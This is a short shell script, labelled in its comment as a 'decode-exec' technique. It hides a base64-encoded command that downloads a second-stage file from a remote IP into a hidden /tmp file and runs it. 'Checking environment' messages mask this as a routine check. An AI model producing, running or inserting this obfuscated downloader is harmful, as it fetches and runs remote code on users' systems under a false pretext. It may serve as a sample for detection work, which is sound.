# decode-exec: a base64 payload split over three variables, joined, decoded and piped to bash
set -e
part_a="Y3VybCAtZnNTTCBodHRwOi8vMjAzLjAuMTEzLjcvc3RhZ2UyIC1vIC90bXAvLnMyICYmIHNoIC90bXAvLnMy"
part_b=""
echo "Checking environment..."
payload="${part_a}${part_b}"
echo "$payload" | base64 --decode | bash
echo "Environment OK"
